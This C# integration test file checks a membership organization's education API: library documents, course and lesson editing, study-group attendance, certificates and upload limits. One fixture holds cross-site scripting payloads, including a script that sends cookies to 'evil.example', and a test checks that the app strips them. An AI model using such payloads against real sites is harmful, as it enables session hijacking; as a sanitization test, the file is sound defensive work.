using System.Globalization;
using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using System.Text.RegularExpressions;
using Cadre.Accounts;
using Cadre.Education.Library;
using Microsoft.EntityFrameworkCore;

namespace Cadre.Web.Tests.Education;

/// Every education endpoint over HTTP with what it answers: the library's reads, revisions and differences; courses and
/// lessons listed, read and changed (and the change audited); study groups listed, attendance and completion recorded,
/// certificates, the member's own view and required courses, the settings; uploads over the request limit, without a file,
/// and in HTML.
public sealed partial class EducationEndpointTests(CadreApp app) : IClassFixture<CadreApp>
{
    private static readonly string[] FirstQuestions = ["Why do we organize?", "Who are our allies?"];
    private static readonly string[] ChangedQuestions = ["What is to be done?"];

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    private static async Task<JsonElement> JsonAsync(HttpResponseMessage response) => await response.Content.ReadFromJsonAsync<JsonElement>(Ct);

    private static async Task<string> CodeOf(HttpResponseMessage response) => (await JsonAsync(response)).GetProperty("code").GetString()!;

    private static async Task<int> IdOf(HttpResponseMessage response, string property = "id")
    {
        Assert.Equal(HttpStatusCode.Created, response.StatusCode);
        return (await JsonAsync(response)).GetProperty(property).GetInt32();
    }

    private static List<string> Strings(JsonElement array) => array.EnumerateArray().Select(e => e.GetString()!).ToList();

    private static Task<HttpResponseMessage> PublishAsync(HttpClient client, int organizationId, string key, string title, string body) =>
        client.PostAsJsonAsync("/api/v1/library", new { organizationId, document = new { key, title, body } }, Ct);

    [Fact]
    public async Task A_document_is_read_revised_and_compared_over_http_and_a_stale_revision_is_refused()
    {
        var tree = await app.CreateTreeAsync("E1");
        var officer = await app.ApiClientAsync(Role.EducationOfficer, tree.Centre);
        var id = await IdOf(await PublishAsync(officer, tree.Centre, "e1-statutes", "E1 Statutes", "# Article 1\n\nMembership is open to workers."), "documentId");

        var first = await officer.GetFromJsonAsync<JsonElement>($"/api/v1/library/{id}", Ct);
        Assert.Equal(("E1 Statutes", 1, "article-1"), (first.GetProperty("title").GetString(), first.GetProperty("currentVersion").GetInt32(),
            first.GetProperty("headings")[0].GetProperty("anchor").GetString()));
        Assert.Contains("<h1 id=\"article-1\">Article 1</h1>", first.GetProperty("html").GetString(), StringComparison.Ordinal);
        var seen = first.GetProperty("version").GetInt32();

        var revised = await officer.PutAsJsonAsync($"/api/v1/library/{id}", new
        {
            document = new { title = "E1 Statutes", body = "# Article 1\n\nMembership is open to workers and peasants." },
            note = "Amended by the congress", expectedVersion = seen,
        }, Ct);
        Assert.Equal(HttpStatusCode.OK, revised.StatusCode);
        var result = await JsonAsync(revised);
        Assert.Equal((2, true), (result.GetProperty("currentVersion").GetInt32(), result.GetProperty("changed").GetBoolean()));
        // The editor who still holds the first version is refused instead of overwriting the amendment.
        var stale = await officer.PutAsJsonAsync($"/api/v1/library/{id}", new
        {
            document = new { title = "E1 Statutes", body = "# Article 1\n\nMembership is open to all." }, expectedVersion = seen,
        }, Ct);
        Assert.Equal(HttpStatusCode.Conflict, stale.StatusCode);

        var earlier = await officer.GetFromJsonAsync<JsonElement>($"/api/v1/library/{id}?version=1", Ct);
        Assert.Equal((1, 2), (earlier.GetProperty("shownVersion").GetInt32(), earlier.GetProperty("currentVersion").GetInt32()));
        Assert.DoesNotContain("peasants", earlier.GetProperty("body").GetString(), StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.NotFound, (await officer.GetAsync($"/api/v1/library/{id}?version=9", Ct)).StatusCode);
        var diff = await officer.GetFromJsonAsync<JsonElement>($"/api/v1/library/{id}/diff?from=1&to=2", Ct);
        var changed = diff.GetProperty("lines").EnumerateArray().Where(l => l.GetProperty("kind").GetString() != "Same")
            .Select(l => (l.GetProperty("kind").GetString(), l.GetProperty("text").GetString())).ToList();
        Assert.Equal([("Removed", "Membership is open to workers."), ("Added", "Membership is open to workers and peasants.")], changed);

        var member = await app.ApiClientAsync(Role.Member, tree.NorthBranch);
        Assert.Contains((await member.GetFromJsonAsync<JsonElement>("/api/v1/library?q=peasants", Ct)).GetProperty("items").EnumerateArray(),
            i => i.GetProperty("key").GetString() == "e1-statutes");
        Assert.Equal(HttpStatusCode.Forbidden, (await member.PutAsJsonAsync($"/api/v1/library/{id}", new { document = new { title = "x", body = "y" } }, Ct)).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await member.GetAsync("/api/v1/library/999999", Ct)).StatusCode);
        Assert.Equal(2, await app.WithDbAsync(db => db.DocumentVersions.CountAsync(v => v.DocumentId == id, Ct)));
    }

    [Fact]
    public async Task Courses_and_lessons_are_listed_read_and_changed_over_http_and_the_lessons_content_is_audited()
    {
        var tree = await app.CreateTreeAsync("E2");
        var officer = await app.ApiClientAsync(Role.EducationOfficer, tree.NorthDistrict);
        var document = await IdOf(await PublishAsync(officer, tree.NorthDistrict, "e2-programme", "E2 Programme", "# Aims\n\nWe organize.\n\n## History\n\nLong."), "documentId");
        var course = await IdOf(await officer.PostAsJsonAsync("/api/v1/courses", new { organizationId = tree.NorthDistrict, title = "E2 Course" }, Ct));
        var lesson = await IdOf(await officer.PostAsJsonAsync($"/api/v1/courses/{course}/lessons", new
        {
            title = "Aims", readings = new[] { new { documentId = document, anchor = "aims", note = "the first section" } }, questions = FirstQuestions,
        }, Ct));

        var list = await officer.GetFromJsonAsync<JsonElement>("/api/v1/courses?limit=200", Ct);
        var row = list.GetProperty("items").EnumerateArray().Single(c => c.GetProperty("id").GetInt32() == course);
        Assert.Equal(("E2 Course", 1), (row.GetProperty("title").GetString(), row.GetProperty("lessons").GetInt32()));
        var read = await officer.GetFromJsonAsync<JsonElement>($"/api/v1/courses/{course}", Ct);
        var shown = read.GetProperty("lessons")[0];
        Assert.Equal(FirstQuestions, Strings(shown.GetProperty("questions")));
        Assert.Equal(("aims", "Aims", "e2-programme"), (shown.GetProperty("readings")[0].GetProperty("anchor").GetString(),
            shown.GetProperty("readings")[0].GetProperty("sectionTitle").GetString(), shown.GetProperty("readings")[0].GetProperty("documentKey").GetString()));
        Assert.True(read.GetProperty("canEdit").GetBoolean());

        var renamed = await officer.PutAsJsonAsync($"/api/v1/courses/{course}", new
        {
            title = "E2 Course for candidates", description = "Read *before* the circle.", requiredFor = "Candidate", completionPercent = 50,
        }, Ct);
        Assert.Equal(HttpStatusCode.NoContent, renamed.StatusCode);
        var lessonChanged = await officer.PutAsJsonAsync($"/api/v1/courses/{course}/lessons/{lesson}", new
        {
            title = "Aims and history", readings = new[] { new { documentId = document, anchor = "history", note = (string?)null } }, questions = ChangedQuestions,
        }, Ct);
        Assert.Equal(HttpStatusCode.NoContent, lessonChanged.StatusCode);

        read = await officer.GetFromJsonAsync<JsonElement>($"/api/v1/courses/{course}", Ct);
        Assert.Equal(("E2 Course for candidates", "Candidate", 50), (read.GetProperty("title").GetString(), read.GetProperty("requiredFor").GetString(),
            read.GetProperty("completionPercent").GetInt32()));
        Assert.Equal(("Aims and history", "history"), (read.GetProperty("lessons")[0].GetProperty("title").GetString(),
            read.GetProperty("lessons")[0].GetProperty("readings")[0].GetProperty("anchor").GetString()));
        Assert.Equal(ChangedQuestions, Strings(read.GetProperty("lessons")[0].GetProperty("questions")));

        // Refusals are named: no such lesson, no title, a section the document lacks, a secretary who reads but does not run education.
        Assert.Equal(HttpStatusCode.NotFound, (await officer.PutAsJsonAsync($"/api/v1/courses/{course}/lessons/{lesson + 9999}", new { title = "x" }, Ct)).StatusCode);
        Assert.Equal(HttpStatusCode.BadRequest, (await officer.PutAsJsonAsync($"/api/v1/courses/{course}", new { title = " ", completionPercent = 50 }, Ct)).StatusCode);
        var noSection = await officer.PutAsJsonAsync($"/api/v1/courses/{course}/lessons/{lesson}", new
        {
            title = "Aims", readings = new[] { new { documentId = document, anchor = "no-such-heading" } },
        }, Ct);
        Assert.Equal("ReadingSectionNotFound", await CodeOf(noSection));
        var secretary = await app.ApiClientAsync(Role.Secretary, tree.NorthDistrict);
        Assert.Equal(HttpStatusCode.Forbidden, (await secretary.PutAsJsonAsync($"/api/v1/courses/{course}", new { title = "Taken over", completionPercent = 50 }, Ct)).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await officer.GetAsync("/api/v1/courses/999999", Ct)).StatusCode);

        var lessonKey = lesson.ToString(CultureInfo.InvariantCulture);
        var courseKey = course.ToString(CultureInfo.InvariantCulture);
        var trail = await app.WithDbAsync(db => db.AuditEntries.AsNoTracking()
            .Where(e => e.EntityType == "LessonContent" && e.EntityId == lessonKey).OrderBy(e => e.Id).ToListAsync(Ct));
        Assert.Equal(2, trail.Count);
        Assert.All(trail, e => Assert.Equal(tree.NorthDistrict, e.OrganizationId));
        Assert.StartsWith("educationofficer-", trail[1].UserName, StringComparison.Ordinal);
        Assert.Contains("Who are our allies?", trail[1].Before, StringComparison.Ordinal);
        Assert.Contains("\"Anchor\":\"aims\"", trail[1].Before, StringComparison.Ordinal);
        Assert.Contains("What is to be done?", trail[1].After, StringComparison.Ordinal);
        Assert.DoesNotContain("Who are our allies?", trail[1].After, StringComparison.Ordinal);
        Assert.True(await app.WithDbAsync(db => db.AuditEntries.AnyAsync(e => e.EntityType == "Course" && e.EntityId == courseKey
            && e.Action == Cadre.Audit.AuditAction.Updated && e.After!.Contains("E2 Course for candidates"), Ct)));
    }

    [Fact]
    public async Task A_study_group_is_listed_attended_and_completed_and_a_participant_from_another_organization_reads_its_questions()
    {
        var tree = await app.CreateTreeAsync("E3");
        var officer = await app.ApiClientAsync(Role.EducationOfficer, tree.NorthDistrict);
        var course = await IdOf(await officer.PostAsJsonAsync("/api/v1/courses", new
        {
            organizationId = tree.NorthDistrict, title = "E3 Course", requiredFor = "Candidate", completionPercent = 100,
        }, Ct));
        await IdOf(await officer.PostAsJsonAsync($"/api/v1/courses/{course}/lessons", new { title = "Organizing", questions = FirstQuestions }, Ct));
        var today = DateOnly.FromDateTime(DateTime.UtcNow);
        var group = await IdOf(await officer.PostAsJsonAsync("/api/v1/courses/groups", new { courseId = course, organizationId = tree.NorthBranch, startsOn = today.AddDays(-20) }, Ct));
        var sessions = new List<int>();
        foreach (var days in new[] { -14, -7 })
            sessions.Add(await IdOf(await officer.PostAsJsonAsync($"/api/v1/courses/groups/{group}/sessions", new { on = today.AddDays(days) }, Ct)));
        var ana = await app.RegisterMemberAsync(tree.NorthBranch, "Ana", "Reis");
        var eva = await app.RegisterMemberAsync(tree.SouthBranch, "Eva", "Moura");
        Assert.Equal(1, (await JsonAsync(await officer.PostAsJsonAsync($"/api/v1/courses/groups/{group}/participants", new { memberIds = new[] { ana.MemberId } }, Ct)))
            .GetProperty("enrolled").GetInt32());
        (await officer.PostAsJsonAsync($"/api/v1/courses/groups/{group}/participants", new { memberNumber = eva.Number, familyName = "moura" }, Ct)).EnsureSuccessStatusCode();

        var groups = await officer.GetFromJsonAsync<JsonElement>($"/api/v1/courses/groups?organizationId={tree.NorthBranch}", Ct);
        var listed = groups.GetProperty("items").EnumerateArray().Single(g => g.GetProperty("id").GetInt32() == group);
        Assert.Equal((2, 2, "E3 Course"), (listed.GetProperty("participants").GetInt32(), listed.GetProperty("sessions").GetInt32(), listed.GetProperty("courseTitle").GetString()));
        Assert.Single((await officer.GetFromJsonAsync<JsonElement>($"/api/v1/courses/groups?courseId={course}", Ct)).GetProperty("items").EnumerateArray());

        var enrollments = await app.WithDbAsync(db => db.Enrollments.Where(e => e.StudyGroupId == group).ToDictionaryAsync(e => e.MemberId, e => e.Id, Ct));
        Assert.Equal(HttpStatusCode.NoContent, (await officer.PutAsJsonAsync($"/api/v1/courses/sessions/{sessions[0]}/attendance",
            new { present = new[] { enrollments[ana.MemberId], enrollments[eva.MemberId] } }, Ct)).StatusCode);
        Assert.Equal(HttpStatusCode.NoContent, (await officer.PutAsJsonAsync($"/api/v1/courses/sessions/{sessions[1]}/attendance",
            new { present = new[] { enrollments[ana.MemberId] } }, Ct)).StatusCode);
        var read = await officer.GetFromJsonAsync<JsonElement>($"/api/v1/courses/groups/{group}", Ct);
        Assert.Equal([2, 1], read.GetProperty("sessions").EnumerateArray().Select(s => s.GetProperty("present").GetInt32()).ToList());

        // The course asks for every session: Eva missed one and is refused with the figures; Ana completes.
        var refused = await officer.PostAsJsonAsync($"/api/v1/courses/groups/{group}/completions", new { enrollmentId = enrollments[eva.MemberId] }, Ct);
        Assert.Equal(HttpStatusCode.Conflict, refused.StatusCode);
        var problem = await JsonAsync(refused);
        Assert.Equal("AttendanceBelowRequirement", problem.GetProperty("code").GetString());
        Assert.Contains("attended 1 of 2 session(s); the course asks for at least 2", problem.GetProperty("detail").GetString(), StringComparison.Ordinal);
        var completed = await officer.PostAsJsonAsync($"/api/v1/courses/groups/{group}/completions", new { enrollmentId = enrollments[ana.MemberId] }, Ct);
        Assert.Equal(HttpStatusCode.Created, completed.StatusCode);
        var number = (await JsonAsync(completed)).GetProperty("certificateNumber").GetString()!;

        var certificate = await officer.GetFromJsonAsync<JsonElement>($"/api/v1/courses/certificates/{number}", Ct);
        Assert.Equal(("Ana Reis", "E3 Course", 2, 2), (certificate.GetProperty("memberName").GetString(), certificate.GetProperty("courseTitle").GetString(),
            certificate.GetProperty("attended").GetInt32(), certificate.GetProperty("sessions").GetInt32()));
        var anaClient = await app.SignedInAsAsync(Role.Member, tree.NorthBranch, ana.PersonId);
        Assert.Equal(HttpStatusCode.OK, (await anaClient.GetAsync($"/api/v1/courses/certificates/{number}", Ct)).StatusCode);
        var evaClient = await app.SignedInAsAsync(Role.Member, tree.SouthBranch, eva.PersonId);
        Assert.Equal(HttpStatusCode.NotFound, (await evaClient.GetAsync($"/api/v1/courses/certificates/{number}", Ct)).StatusCode);

        // Eva's branch reads nothing of the north district's education, and she reads no course page: her own view brings the questions.
        Assert.Equal(HttpStatusCode.Forbidden, (await evaClient.GetAsync($"/api/v1/courses/{course}", Ct)).StatusCode);
        var mine = await evaClient.GetFromJsonAsync<JsonElement>("/api/v1/courses/me", Ct);
        Assert.Equal(("E3 Course", 1, 2), (mine.GetProperty("courses")[0].GetProperty("courseTitle").GetString(), mine.GetProperty("courses")[0].GetProperty("attended").GetInt32(),
            mine.GetProperty("courses")[0].GetProperty("held").GetInt32()));
        var lesson = mine.GetProperty("lessons").EnumerateArray().Single();
        Assert.Equal(("E3 Course", 1, "Organizing"), (lesson.GetProperty("courseTitle").GetString(), lesson.GetProperty("number").GetInt32(), lesson.GetProperty("title").GetString()));
        Assert.Equal(FirstQuestions, Strings(lesson.GetProperty("questions")));
        var page = await evaClient.GetStringAsync("/education/mine", Ct);
        var questions = QuestionsSection().Match(page);
        Assert.True(questions.Success, "no questions on /education/mine");
        Assert.Contains("<li>Who are our allies?</li>", questions.Value, StringComparison.Ordinal);
        Assert.Contains("E3 Course, lesson 1: Organizing", questions.Value, StringComparison.Ordinal);

        var secretary = await app.ApiClientAsync(Role.Secretary, tree.NorthBranch);
        var required = await secretary.GetFromJsonAsync<JsonElement>($"/api/v1/courses/members/{ana.MemberId}/required", Ct);
        var course3 = required.GetProperty("courses").EnumerateArray().Single(c => c.GetProperty("courseId").GetInt32() == course);
        Assert.Equal((true, number), (course3.GetProperty("completed").GetBoolean(), course3.GetProperty("certificateNumber").GetString()));
        var evaRequired = await (await app.ApiClientAsync(Role.Secretary, tree.SouthBranch)).GetFromJsonAsync<JsonElement>($"/api/v1/courses/members/{eva.MemberId}/required", Ct);
        Assert.False(evaRequired.GetProperty("courses").EnumerateArray().Single(c => c.GetProperty("courseId").GetInt32() == course).GetProperty("completed").GetBoolean());
        Assert.Equal(HttpStatusCode.NotFound, (await secretary.GetAsync($"/api/v1/courses/members/{eva.MemberId}/required", Ct)).StatusCode);
    }

    [Fact]
    public async Task The_education_settings_are_read_by_officers_and_changed_only_by_an_administrator()
    {
        var tree = await app.CreateTreeAsync("E4");
        var officer = await app.ApiClientAsync(Role.EducationOfficer, tree.Centre);
        var admin = await app.ApiClientAsync(Role.Administrator, null);
        var before = (await officer.GetFromJsonAsync<JsonElement>("/api/v1/courses/settings", Ct)).GetProperty("requiredCoursesBlockConfirmation").GetBoolean();

        Assert.Equal(HttpStatusCode.Forbidden, (await officer.PutAsJsonAsync("/api/v1/courses/settings", new { requiredCoursesBlockConfirmation = !before }, Ct)).StatusCode);
        Assert.Equal(before, (await officer.GetFromJsonAsync<JsonElement>("/api/v1/courses/settings", Ct)).GetProperty("requiredCoursesBlockConfirmation").GetBoolean());
        Assert.Equal(HttpStatusCode.NoContent, (await admin.PutAsJsonAsync("/api/v1/courses/settings", new { requiredCoursesBlockConfirmation = !before }, Ct)).StatusCode);
        Assert.Equal(!before, (await officer.GetFromJsonAsync<JsonElement>("/api/v1/courses/settings", Ct)).GetProperty("requiredCoursesBlockConfirmation").GetBoolean());
        Assert.Equal(HttpStatusCode.NoContent, (await admin.PutAsJsonAsync("/api/v1/courses/settings", new { requiredCoursesBlockConfirmation = before }, Ct)).StatusCode);
        var member = await app.ApiClientAsync(Role.Member, tree.NorthBranch);
        Assert.Equal(HttpStatusCode.Forbidden, (await member.GetAsync("/api/v1/courses/settings", Ct)).StatusCode);
    }

    /// Content of a length the client does not announce: sent chunked, so only the reading of the form finds it too large.
    private sealed class UnannouncedContent(byte[] bytes) : HttpContent
    {
        protected override Task SerializeToStreamAsync(Stream stream, TransportContext? context) => stream.WriteAsync(bytes).AsTask();

        protected override bool TryComputeLength(out long length)
        {
            length = 0;
            return false;
        }
    }

    private static MultipartFormDataContent Upload(HttpContent file, string fileName, int organizationId)
    {
        var form = new MultipartFormDataContent();
        file.Headers.ContentType = new MediaTypeHeaderValue(fileName.EndsWith(".html", StringComparison.Ordinal) ? "text/html" : "text/markdown");
        form.Add(file, "file", fileName);
        form.Add(new StringContent(organizationId.ToString(CultureInfo.InvariantCulture)), "organizationId");
        return form;
    }

    [Fact]
    public async Task An_upload_over_the_request_limit_or_without_a_file_is_a_named_error_and_stores_nothing()
    {
        var tree = await app.CreateTreeAsync("E5");
        var officer = await app.ApiClientAsync(Role.EducationOfficer, tree.Centre);
        var before = await app.WithDbAsync(db => db.Documents.CountAsync(Ct));
        var oversized = Encoding.UTF8.GetBytes("# Too long\n\n" + new string('a', (int)LibraryUploads.MaxRequestBytes + 1024));

        var announced = await officer.PostAsync("/api/v1/library/upload", Upload(new ByteArrayContent(oversized), "long.md", tree.Centre), Ct);
        Assert.Equal(HttpStatusCode.BadRequest, announced.StatusCode);
        Assert.Equal("DocumentFileTooLarge", await CodeOf(announced));
        var chunked = await officer.PostAsync("/api/v1/library/upload", Upload(new UnannouncedContent(oversized), "long.md", tree.Centre), Ct);
        Assert.Equal(HttpStatusCode.BadRequest, chunked.StatusCode);
        var tooLarge = await JsonAsync(chunked);
        Assert.Equal("DocumentFileTooLarge", tooLarge.GetProperty("code").GetString());
        Assert.Contains("at most 4 MB", tooLarge.GetRawText(), StringComparison.Ordinal);

        var noFile = new MultipartFormDataContent { { new StringContent(tree.Centre.ToString(CultureInfo.InvariantCulture)), "organizationId" } };
        var withoutFile = await officer.PostAsync("/api/v1/library/upload", noFile, Ct);
        Assert.Equal(HttpStatusCode.BadRequest, withoutFile.StatusCode);
        Assert.Contains("Send the document as a multipart form with a file.", (await JsonAsync(withoutFile)).GetRawText(), StringComparison.Ordinal);
        var notAForm = await officer.PostAsJsonAsync("/api/v1/library/upload", new { organizationId = tree.Centre }, Ct);
        Assert.Equal(HttpStatusCode.BadRequest, notAForm.StatusCode);
        var emptyFile = await officer.PostAsync("/api/v1/library/upload", Upload(new ByteArrayContent([]), "empty.md", tree.Centre), Ct);
        Assert.Equal("DocumentFileEmpty", await CodeOf(emptyFile));
        var whitespace = await officer.PostAsync("/api/v1/library/upload", Upload(new ByteArrayContent(Encoding.UTF8.GetBytes(" \n\t\n")), "blank.md", tree.Centre), Ct);
        Assert.Equal("DocumentFileEmpty", await CodeOf(whitespace));

        // The upload page answers the same beside its file field.
        var page = await app.SignedInAsAsync(Role.EducationOfficer, tree.Centre);
        var html = await page.GetStringAsync("/library/new", Ct);
        var token = WebUtility.HtmlDecode(AntiforgeryToken().Match(html).Groups[1].Value);
        foreach (var content in new Func<HttpContent>[] { () => new ByteArrayContent(oversized), () => new UnannouncedContent(oversized) })
        {
            var form = Upload(content(), "long.md", tree.Centre);
            form.Add(new StringContent("E5-CC"), "Org");
            form.Add(new StringContent(token), "__RequestVerificationToken");
            var refused = await page.PostAsync("/library/new", form, Ct);
            Assert.Equal(HttpStatusCode.BadRequest, refused.StatusCode);
            Assert.StartsWith("The file has ", CadreApp.FieldError(await refused.Content.ReadAsStringAsync(Ct), "file"), StringComparison.Ordinal);
        }
        Assert.Equal(before, await app.WithDbAsync(db => db.Documents.CountAsync(Ct)));
    }

    private const string Speech = """
        ---
        key: e6-speech
        title: E6 Speech to the Congress
        ---
        <h1>Our <em>Tasks</em></h1>
        <p onclick="stealCookies()">The cooperatives <strong>federate</strong> in every province.</p>
        <script>document.location = 'https://evil.example/' + document.cookie</script>
        <p>Quoted markup: &lt;script&gt;alert(2)&lt;/script&gt; and <a href="javascript:alert(3)">a link</a>.</p>
        <img src="x" onerror="alert(4)">
        """;

    [Fact]
    public async Task An_uploaded_html_document_is_searched_by_its_text_and_shown_without_its_markup()
    {
        var tree = await app.CreateTreeAsync("E6");
        var officer = await app.ApiClientAsync(Role.EducationOfficer, tree.Centre);
        var id = await IdOf(await officer.PostAsync("/api/v1/library/upload", Upload(new ByteArrayContent(Encoding.UTF8.GetBytes(Speech)), "speech.html", tree.Centre), Ct),
            "documentId");
        var member = await app.ApiClientAsync(Role.Member, tree.NorthBranch);

        var found = await member.GetFromJsonAsync<JsonElement>("/api/v1/library?q=cooperatives+federate", Ct);
        var hit = found.GetProperty("items").EnumerateArray().Single(i => i.GetProperty("key").GetString() == "e6-speech");
        Assert.Contains("<mark>federate</mark>", hit.GetProperty("snippetHtml").GetString(), StringComparison.Ordinal);
        foreach (var markup in MarkupWords)
            Assert.DoesNotContain((await member.GetFromJsonAsync<JsonElement>($"/api/v1/library?q={markup}", Ct)).GetProperty("items").EnumerateArray(),
                i => i.GetProperty("key").GetString() == "e6-speech");
        var json = await member.GetFromJsonAsync<JsonElement>($"/api/v1/library/{id}", Ct);
        Assert.Equal("Html", json.GetProperty("format").GetString());

        var page = await (await app.SignedInAsAsync(Role.Member, tree.NorthBranch)).GetStringAsync($"/library/{id}", Ct);
        var text = DocumentText().Match(page);
        Assert.True(text.Success, "no document text on the page");
        Assert.Contains("<h1 id=\"our-tasks\">Our Tasks</h1>", text.Value, StringComparison.Ordinal);
        Assert.Contains("&lt;script&gt;alert(2)&lt;/script&gt;", text.Value, StringComparison.Ordinal);
        foreach (var unsafeMarkup in UnsafeMarkup) Assert.DoesNotContain(unsafeMarkup, text.Value, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("evil.example", page, StringComparison.Ordinal);
    }

    private static readonly string[] MarkupWords = ["onclick", "stealCookies", "strong", "evil", "cookie", "onerror", "href"];

    private static readonly string[] UnsafeMarkup = ["<script", "onclick", "onerror", "javascript:", "<img", "<a "];

    [Fact]
    public async Task The_course_page_changes_a_course_and_a_lesson_with_its_readings_and_questions()
    {
        var tree = await app.CreateTreeAsync("E7");
        var officer = await app.ApiClientAsync(Role.EducationOfficer, tree.NorthDistrict);
        await IdOf(await PublishAsync(officer, tree.NorthDistrict, "e7-programme", "E7 Programme", "# Aims\n\nWe organize.\n\n## History\n\nLong."), "documentId");
        var course = await IdOf(await officer.PostAsJsonAsync("/api/v1/courses", new { organizationId = tree.NorthDistrict, title = "E7 Course" }, Ct));
        var lesson = await IdOf(await officer.PostAsJsonAsync($"/api/v1/courses/{course}/lessons", new { title = "Aims", questions = FirstQuestions }, Ct));
        var browser = await app.SignedInAsAsync(Role.EducationOfficer, tree.NorthDistrict);
        var path = $"/education/courses/{course}";

        var html = await browser.GetStringAsync(path, Ct);
        Assert.Contains("Change the course", html, StringComparison.Ordinal);
        Assert.Equal("E7 Course", CadreApp.FormValue(html, "CourseTitle"));
        Assert.Contains("Who are our allies?</textarea>", html, StringComparison.Ordinal); // the lesson's form holds its questions

        var course1 = await CadreApp.PostFormAsync(browser, path, new()
        {
            ["CourseTitle"] = "E7 Course renamed", ["CourseDescription"] = "Read first.", ["RequiredFor"] = "FullMember", ["CompletionPercent"] = "60",
        }, $"{path}?handler=Course");
        Assert.Equal(HttpStatusCode.Redirect, course1.StatusCode);
        var changedLesson = await CadreApp.PostFormAsync(browser, path, new()
        {
            ["LessonTitle"] = "Aims and history", ["LessonNotes"] = "Start with the history.", ["Readings"] = "e7-programme#history | the whole section\ne7-programme",
            ["Questions"] = "What is to be done?\n\nWhy now?",
        }, $"{path}?handler=EditLesson&lessonId={lesson}");
        Assert.Equal(HttpStatusCode.Redirect, changedLesson.StatusCode);

        var read = await officer.GetFromJsonAsync<JsonElement>($"/api/v1/courses/{course}", Ct);
        Assert.Equal(("E7 Course renamed", "Read first.", "FullMember", 60), (read.GetProperty("title").GetString(), read.GetProperty("description").GetString(),
            read.GetProperty("requiredFor").GetString(), read.GetProperty("completionPercent").GetInt32()));
        var shown = read.GetProperty("lessons")[0];
        Assert.Equal(("Aims and history", "Start with the history."), (shown.GetProperty("title").GetString(), shown.GetProperty("notes").GetString()));
        Assert.Equal(["history", null], shown.GetProperty("readings").EnumerateArray().Select(r => r.GetProperty("anchor").GetString()).ToList());
        Assert.Equal(["What is to be done?", "Why now?"], Strings(shown.GetProperty("questions")));
        html = await browser.GetStringAsync(path, Ct);
        Assert.Contains("e7-programme#history | the whole section&#xA;e7-programme</textarea>", html, StringComparison.Ordinal); // the newline encoded

        // A reading that names no document keeps the form open with what was typed; an empty title is refused; nothing changes.
        var badReading = await CadreApp.PostFormAsync(browser, path, new()
        {
            ["LessonTitle"] = "Aims", ["Readings"] = "no-such-document", ["Questions"] = "Lost?",
        }, $"{path}?handler=EditLesson&lessonId={lesson}");
        Assert.Equal(HttpStatusCode.BadRequest, badReading.StatusCode);
        var refusedPage = await badReading.Content.ReadAsStringAsync(Ct);
        Assert.Contains("there is no document with the key &#x27;no-such-document&#x27;", refusedPage, StringComparison.Ordinal);
        Assert.Contains("<details id=\"edit-lesson-1\" open=\"open\">", refusedPage, StringComparison.Ordinal);
        Assert.Contains(">no-such-document</textarea>", refusedPage, StringComparison.Ordinal);
        var noTitle = await CadreApp.PostFormAsync(browser, path, new() { ["CourseTitle"] = "", ["RequiredFor"] = "None", ["CompletionPercent"] = "60" }, $"{path}?handler=Course");
        Assert.Equal(HttpStatusCode.BadRequest, noTitle.StatusCode);
        Assert.Contains("Give the course a title.", await noTitle.Content.ReadAsStringAsync(Ct), StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.NotFound, (await CadreApp.PostFormAsync(browser, path, new() { ["LessonTitle"] = "x" },
            $"{path}?handler=EditLesson&lessonId={lesson + 9999}")).StatusCode);

        // A secretary reads the course without its forms and may not change it.
        var secretary = await app.SignedInAsAsync(Role.Secretary, tree.NorthDistrict);
        Assert.DoesNotContain("Change the course", await secretary.GetStringAsync(path, Ct), StringComparison.Ordinal);
        var taken = await CadreApp.PostFormAsync(secretary, path, new() { ["CourseTitle"] = "Taken over", ["RequiredFor"] = "None", ["CompletionPercent"] = "60" }, $"{path}?handler=Course");
        Assert.Equal(HttpStatusCode.BadRequest, taken.StatusCode);
        Assert.Contains("You may not run the education of this organization.", await taken.Content.ReadAsStringAsync(Ct), StringComparison.Ordinal);
        read = await officer.GetFromJsonAsync<JsonElement>($"/api/v1/courses/{course}", Ct);
        Assert.Equal("E7 Course renamed", read.GetProperty("title").GetString());
        Assert.Equal(["What is to be done?", "Why now?"], Strings(read.GetProperty("lessons")[0].GetProperty("questions")));

        var lessonKey = lesson.ToString(CultureInfo.InvariantCulture);
        var courseKey = course.ToString(CultureInfo.InvariantCulture);
        var lessonTrail = await app.WithDbAsync(db => db.AuditEntries.AsNoTracking()
            .Where(e => e.EntityType == "LessonContent" && e.EntityId == lessonKey).OrderBy(e => e.Id).ToListAsync(Ct));
        Assert.Equal(2, lessonTrail.Count); // added, then changed once by the page (the refused posts wrote nothing)
        Assert.Contains("Why now?", lessonTrail[1].After, StringComparison.Ordinal);
        Assert.True(await app.WithDbAsync(db => db.AuditEntries.AnyAsync(e => e.EntityType == "Course" && e.EntityId == courseKey
            && e.Action == Cadre.Audit.AuditAction.Updated && e.Before!.Contains("E7 Course") && e.After!.Contains("E7 Course renamed"), Ct)));
    }

    [GeneratedRegex("name=\"__RequestVerificationToken\" type=\"hidden\" value=\"([^\"]+)\"")]
    private static partial Regex AntiforgeryToken();

    [GeneratedRegex("<section aria-labelledby=\"questions-heading\">.*?</section>", RegexOptions.Singleline)]
    private static partial Regex QuestionsSection();

    [GeneratedRegex("<article id=\"document-text\"[^>]*>.*?</article>", RegexOptions.Singleline)]
    private static partial Regex DocumentText();
}
